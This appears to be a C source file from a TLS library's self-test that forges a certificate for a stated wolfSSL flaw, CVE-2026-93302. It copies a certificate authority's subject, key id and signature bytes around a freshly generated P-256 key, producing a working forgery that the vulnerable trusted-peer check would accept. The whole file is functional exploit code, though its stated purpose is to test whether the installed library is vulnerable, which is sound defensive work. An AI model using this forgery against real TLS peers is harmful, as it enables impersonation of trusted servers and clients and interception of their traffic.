// SPDX-License-Identifier: GPL-2.0-or-later
// The forgery of CVE-2026-93302, made for the self-test: what wolfSSL compares of a "trusted peer" (subject, subject
// key id, signature bytes) is copied from the authority's public certificate, and the key is our own.
#include "link/tls/internal.h"

#include "base/memory.h"
#include "os/random.h"

#include <stdlib.h>
#include <string.h>

#include <wolfssl/wolfcrypt/asn_public.h>
#include <wolfssl/wolfcrypt/ecc.h>
#include <wolfssl/wolfcrypt/random.h>

enum {
    CLONE_MAX = 8192, // bytes: copies of parts of one certificate (a certificate is at most this, see authority_fits)
    KEY_MAX = 256,    // bytes: a P-256 key in DER takes 121
    SERIAL_LEN = 8,
};

// DER is written inside out: contents first, then der_wrap puts tag and length in front of what stands from `start`.
struct draft {
    uint8_t bytes[CLONE_MAX + 1024];
    size_t len;
};

static void put(struct draft *draft, const void *bytes, size_t len)
{
    memcpy(draft->bytes + draft->len, bytes, len);
    draft->len += len;
}

static void put_span(struct draft *draft, const struct span *span)
{
    if (span->len > 0)
        put(draft, span->bytes, span->len);
}

static void wrap(struct draft *draft, size_t start, uint8_t tag)
{
    size_t len = draft->len - start, header = 2;
    uint8_t head[4] = {tag, (uint8_t)len};
    if (len >= 0x100) {
        head[1] = 0x82, head[2] = (uint8_t)(len >> 8), head[3] = (uint8_t)len;
        header = 4;
    } else if (len >= 0x80) {
        head[1] = 0x81, head[2] = (uint8_t)len;
        header = 3;
    }
    memmove(draft->bytes + start + header, draft->bytes + start, len);
    memcpy(draft->bytes + start, head, header);
    draft->len += header;
}

// SubjectAltName DNS:clone, KeyUsage digitalSignature, ExtendedKeyUsage serverAuth and clientAuth: nothing but the
// signature is to be wrong with it.
static const uint8_t leaf_extensions[] = {0x30, 0x10, 0x06, 0x03, 0x55, 0x1d, 0x11, 0x04, 0x09, 0x30, 0x07, 0x82, 0x05,
                                          'c',  'l',  'o',  'n',  'e',  0x30, 0x0e, 0x06, 0x03, 0x55, 0x1d, 0x0f, 0x01,
                                          0x01, 0xff, 0x04, 0x04, 0x03, 0x02, 0x07, 0x80, 0x30, 0x1d, 0x06, 0x03, 0x55,
                                          0x1d, 0x25, 0x04, 0x16, 0x30, 0x14, 0x06, 0x08, 0x2b, 0x06, 0x01, 0x05, 0x05,
                                          0x07, 0x03, 0x01, 0x06, 0x08, 0x2b, 0x06, 0x01, 0x05, 0x05, 0x07, 0x03, 0x02};

static void write_body(struct draft *draft, const struct certificate *ca, const struct span *key)
{
    static const uint8_t version_3[] = {0xa0, 0x03, 0x02, 0x01, 0x02};
    put(draft, version_3, sizeof(version_3));
    size_t start = draft->len;
    uint8_t serial[SERIAL_LEN];
    random_fill(serial, sizeof(serial));
    serial[0] = (serial[0] & 0x3f) | 0x40; // positive, and not a byte longer than needed
    put(draft, serial, sizeof(serial));
    wrap(draft, start, DER_INTEGER);
    put_span(draft, &ca->signature_algorithm);
    put_span(draft, &ca->subject);
    put_span(draft, &ca->validity);
    put_span(draft, &ca->subject);
    put_span(draft, key);
    start = draft->len;
    put_span(draft, &ca->key_id);
    put(draft, leaf_extensions, sizeof(leaf_extensions));
    wrap(draft, start, DER_SEQUENCE);
    wrap(draft, start, DER_CONTEXT_CONSTRUCTED(3));
}

static void write_certificate(struct tls_clone *out, const struct certificate *ca, const struct span *key)
{
    struct draft draft = {.len = 0};
    write_body(&draft, ca, key);
    wrap(&draft, 0, DER_SEQUENCE);
    put_span(&draft, &ca->signature_algorithm);
    put_span(&draft, &ca->signature);
    wrap(&draft, 0, DER_SEQUENCE);
    out->certificate = memory_new(draft.len);
    memcpy(out->certificate, draft.bytes, draft.len);
    out->certificate_len = draft.len;
}

// A fresh P-256 key: the private one into `out`, the SubjectPublicKeyInfo into `public`. Returns the length of that, 0
// on failure.
static size_t make_key(struct tls_clone *out, uint8_t public[KEY_MAX])
{
    WC_RNG rng;
    ecc_key key;
    int public_len = 0, key_len = 0;
    if (wc_InitRng(&rng) != 0)
        return 0;
    if (wc_ecc_init(&key) == 0) {
        out->key = memory_new(KEY_MAX);
        if (wc_ecc_make_key(&rng, 32, &key) == 0) {
            key_len = wc_EccKeyToDer(&key, out->key, KEY_MAX);
            public_len = wc_EccPublicKeyToDer(&key, public, KEY_MAX, 1);
        }
        wc_ecc_free(&key);
    }
    wc_FreeRng(&rng);
    out->key_len = key_len > 0 ? (size_t)key_len : 0;
    return key_len > 0 && public_len > 0 ? (size_t)public_len : 0;
}

// The subject goes in twice; everything else of a certificate once.
static bool authority_fits(const struct certificate *ca)
{
    return ca->signature_algorithm.len * 2 + ca->subject.len * 2 + ca->validity.len + ca->key_id.len +
               ca->signature.len <
           CLONE_MAX - KEY_MAX;
}

bool tls_clone_forge(struct tls_clone *out, const struct certificate *ca)
{
    uint8_t public[KEY_MAX];
    *out = (struct tls_clone){0};
    size_t len = authority_fits(ca) ? make_key(out, public) : 0;
    if (len == 0) {
        tls_clone_free(out);
        return false;
    }
    struct span key = {public, len};
    write_certificate(out, ca, &key);
    return true;
}

void tls_clone_free(struct tls_clone *clone)
{
    free(clone->certificate);
    free(clone->key);
    *clone = (struct tls_clone){0};
}
